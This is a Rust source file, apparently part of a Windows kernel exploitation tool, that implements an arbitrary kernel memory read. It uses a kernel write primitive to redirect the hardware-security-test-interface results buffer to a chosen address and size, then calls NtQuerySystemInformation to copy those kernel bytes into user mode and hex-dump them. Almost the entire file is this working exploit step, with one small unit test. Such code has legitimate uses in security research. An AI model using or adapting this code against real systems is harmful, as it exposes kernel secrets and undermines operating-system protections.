#[cfg(windows)]
use crate::error::R0akError;

/// Splits a kernel address into the two 32-bit halves the write primitive
/// can store, low half first.
pub fn split_address(address: u64) -> (u32, u32) {
    (address as u32, (address >> 32) as u32)
}

/// Reads `size` bytes of kernel memory and hex-dumps them.
///
/// Three 32-bit writes retarget the hardware-security test results at the
/// caller's address and size, then the ordinary results query copies the
/// bytes out to user mode. The raw bytes are also returned.
#[cfg(windows)]
pub fn read_kernel(
    exec: &mut crate::exec::KernelExecute,
    routines: &crate::sym::KernelRoutines,
    address: u64,
    size: u32,
) -> Result<Vec<u8>, R0akError> {
    use crate::data::SystemHardwareSecurityTestInterfaceResultsInformation;
    use crate::util::dump_hex;
    use crate::write::write_kernel;
    use ntapi::ntexapi::NtQuerySystemInformation;
    use winapi::shared::ntdef::NT_SUCCESS;

    println!("[+] Setting size to                                      0x{size:016X}");
    write_kernel(exec, routines, routines.hsti_buffer_size, size)
        .inspect_err(|_| println!("[-] Fail to set size"))?;

    let (low, high) = split_address(address);
    println!("[+] Setting pointer to                                   0x{address:016X}");
    write_kernel(exec, routines, routines.hsti_buffer_pointer, low)
        .inspect_err(|_| println!("[-] Fail to set lower pointer bits"))?;
    write_kernel(exec, routines, routines.hsti_buffer_pointer + 4, high)
        .inspect_err(|_| println!("[-] Fail to set upper pointer bits"))?;

    let mut data = Vec::new();
    data.try_reserve_exact(size as usize)
        .map_err(|_| R0akError::OutOfMemory)?;
    data.resize(size as usize, 0);

    let status = unsafe {
        NtQuerySystemInformation(
            SystemHardwareSecurityTestInterfaceResultsInformation,
            data.as_mut_ptr().cast(),
            size,
            core::ptr::null_mut(),
        )
    };
    if !NT_SUCCESS(status) {
        println!("[-] Failed to read kernel data");
        return Err(R0akError::QueryFailed);
    }

    dump_hex(&data);
    Ok(data)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_split_low_half_first() {
        assert_eq!(split_address(0xFFFF_F800_1234_5678), (0x1234_5678, 0xFFFF_F800));
        assert_eq!(split_address(0), (0, 0));
        assert_eq!(split_address(u64::MAX), (u32::MAX, u32::MAX));
    }
}
